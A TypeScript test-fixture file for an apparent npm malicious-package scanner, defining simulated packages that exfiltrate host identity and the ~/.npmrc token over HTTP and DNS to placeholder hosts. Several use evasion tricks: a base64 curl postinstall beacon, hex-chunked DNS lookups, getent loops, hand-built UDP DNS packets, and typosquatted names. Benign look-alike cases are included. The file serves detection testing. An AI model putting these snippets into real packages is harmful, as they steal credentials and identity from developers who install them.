import { armed, called, finding, fires, hooked, latchCommand, pkg, quiet, type Simulant, text } from './simulant.ts';

const beacon = finding('exfil.host-info', 'high', [['net.dns', 'net.http'], 'canary.egress'], {
  phase: ['install', 'import'],
});
const chunks = finding('exfil.dns-chunked', 'high', ['net.dns'], { atLeast: 5, phase: ['install', 'import'] });
const tokenInNames = finding('exfil.canary-egress', 'critical', ['net.dns', 'canary.egress'], {
  phase: ['install', 'import'],
});

/** B17–B18: the machine's identity or a secret leaves, by HTTP or by DNS names. */
export const identity: readonly Simulant[] = [
  {
    id: 'b17-beacon-by-http',
    row: 'B17',
    kind: 'positive',
    form: 'plain',
    packages: [
      hooked(
        'b17-http',
        armed`
          const os = require('node:os'), http = require('node:http');
          const body = JSON.stringify({ host: os.hostname(), user: os.userInfo().username, cwd: process.cwd(), home: os.homedir() });
          const request = http.request('http://hello.simulant.invalid/in', { method: 'POST' });
          request.on('error', () => {});
          request.end(body);
        `,
      ),
    ],
    expect: fires('suspicious', [beacon]),
    note: 'Host name, user, working directory in a JSON body.',
  },
  {
    id: 'b17-beacon-of-a-confusable-name',
    row: 'B17',
    kind: 'positive',
    form: 'plain',
    packages: [
      called(
        'exprress',
        '99.9.1',
        hooked(
          'b17-name',
          armed`
            const os = require('node:os');
            require('node:dns').lookup(os.hostname() + '.' + os.userInfo().username + '.dc.simulant.invalid', () => {});
          `,
        ),
      ),
    ],
    expect: fires('suspicious', [beacon, finding('manifest.name-confusion', 'medium', ['signal'])]),
    note: 'One letter from a popular name, an implausibly high version, and a DNS beacon.',
  },
  {
    id: 'b17-evasion-shell-beacon',
    row: 'B17',
    kind: 'evasion',
    form: 'light',
    packages: [
      pkg(
        'b17-shell',
        {},
        {
          scripts: {
            postinstall: `${latchCommand}(curl -fs -m 5 "http://hello.simulant.invalid/$(hostname | base64 -w0)/$(id -un)" -o /dev/null || true)`,
          },
        },
      ),
    ],
    expect: fires('suspicious', [beacon]),
    note: 'Identity from native tools, host name in base64 in the path.',
  },
  {
    id: 'b17-evasion-identity-from-files',
    row: 'B17',
    kind: 'evasion',
    form: 'heavy',
    packages: [
      pkg('b17-files', {
        'index.js': armed`
          const f = require('node:fs'), d = require('node:dns');
          const h = f.readFileSync('/etc/hostname', 'utf8').trim();
          const u = process.cwd().split('/')[2] ?? 'x';
          const z = Buffer.from(h + '|' + u).toString('hex').match(/.{1,60}/g).join('.');
          setImmediate(() => d.resolveTxt(z + '.t.simulant.invalid', () => {}));
          module.exports = (rows) => rows;
        `,
      }),
    ],
    expect: fires('suspicious', [beacon]),
    note: 'No os module: the host name from a file, the user from the path, hex in one TXT question at import.',
  },
  {
    id: 'b17-evasion-homoglyph-name',
    row: 'B17',
    kind: 'evasion',
    form: 'light',
    packages: [
      called(
        '1odash',
        '4.17.22',
        hooked(
          'b17-squat',
          armed`
            const os = require('node:os');
            fetch('http://hello.simulant.invalid/?q=' + encodeURIComponent([os.hostname(), os.userInfo().username].join(':'))).catch(() => {});
          `,
        ),
      ),
    ],
    expect: fires('suspicious', [beacon, finding('manifest.name-confusion', 'medium', ['signal'])]),
    note: 'A digit that looks like a letter, with a version that continues the real one.',
  },
  {
    id: 'b17-neighbour-own-scope-fork',
    row: 'B17',
    kind: 'neighbour',
    form: 'plain',
    packages: [
      pkg(
        '@simulant/express',
        {
          'index.js': text`
            const os = require('node:os');
            exports.describe = () => os.hostname() + ' ' + process.platform + ' ' + process.version;
          `,
        },
        { description: 'A fork kept under its own scope.' },
      ),
    ],
    expect: quiet(['exfil.', 'manifest.name-confusion']),
    note: 'Knows the host name and returns it to its caller; the scope makes the name unmistakable.',
  },
  {
    id: 'b18-token-over-dns',
    row: 'B18',
    kind: 'positive',
    form: 'plain',
    packages: [
      hooked(
        'b18-dns',
        armed`
          const fs = require('node:fs'), os = require('node:os'), path = require('node:path'), dns = require('node:dns').promises;
          (async () => {
            const data = fs.readFileSync(path.join(os.homedir(), '.npmrc')).toString('hex');
            const parts = data.match(/.{1,24}/g);
            for (const [i, part] of parts.entries()) await dns.lookup(i + '-' + part + '.x.simulant.invalid').catch(() => {});
          })();
        `,
      ),
    ],
    expect: fires('malicious', [chunks, tokenInNames]),
    note: 'The npm configuration in hex labels, one lookup after the other.',
  },
  {
    id: 'b18-evasion-native-resolver',
    row: 'B18',
    kind: 'evasion',
    form: 'light',
    packages: [
      pkg(
        'b18-getent',
        {
          'warm.sh': text`
            #!/bin/sh
            base64 -w0 "$HOME/.npmrc" | tr '+/=' '-_.' | tr -d '.' | fold -w 30 | while read -r part || [ -n "$part" ]; do
              getent hosts "$part.n.simulant.invalid" > /dev/null || true
            done
          `,
        },
        { scripts: { postinstall: `${latchCommand}sh warm.sh` } },
      ),
    ],
    expect: fires('suspicious', [chunks]),
    note: 'getent asks; upper and lower case survive only when the resolver keeps them, so the canary may be lost but the pattern not.',
  },
  {
    id: 'b18-evasion-own-dns-packets',
    row: 'B18',
    kind: 'evasion',
    form: 'heavy',
    packages: [
      pkg('b18-dgram', {
        'index.js': armed`
          const socket = require('node:dgram').createSocket('udp4');
          const label = (s) => Buffer.concat([Buffer.from([s.length]), Buffer.from(s)]);
          const about = [process.env.HOME, process.cwd(), process.version, process.arch, process.execPath, ...process.argv];
          const data = Buffer.from(about.join('|').padEnd(200, '.')).toString('hex');
          const parts = data.slice(0, 600).match(/.{1,30}/g);
          let left = parts.length;
          parts.forEach((part, i) => setTimeout(() => {
            const head = Buffer.from([0, i, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0]);
            const name = Buffer.concat([label(part), label('q'), label('simulant'), label('invalid'), Buffer.from([0, 0, 16, 0, 1])]);
            socket.send(Buffer.concat([head, name]), 53, '192.0.2.53', () => --left === 0 && socket.close());
          }, (i * 7919) % 400));
          module.exports = () => parts.length;
        `,
      }),
    ],
    expect: fires('suspicious', [chunks]),
    note: 'Hand-made TXT questions to an address of its own, out of order, with jitter; no canary is promised.',
  },
  {
    id: 'b18-neighbour-resolves-mirrors',
    row: 'B18',
    kind: 'neighbour',
    form: 'plain',
    packages: [
      pkg(
        'n18-mirrors',
        {
          'index.js': text`
            const dns = require('node:dns').promises;
            const mirrors = ['eu', 'us', 'ap', 'sa', 'af', 'oc', 'me'].map((region) => region + '.mirror.acme.test');
            exports.mirrors = mirrors;
            exports.reachable = async function reachable() {
              const answers = await Promise.allSettled(mirrors.map((name) => dns.lookup(name)));
              return mirrors.filter((_, i) => answers[i].status === 'fulfilled');
            };
          `,
        },
        { homepage: 'https://mirror.acme.test/' },
      ),
    ],
    expect: quiet(['exfil.', 'c2.', 'net.import-egress'], { allowed: { 'net.egress': 'low' } }),
    note: 'Seven short, constant names of one declared domain, when called.',
  },
];
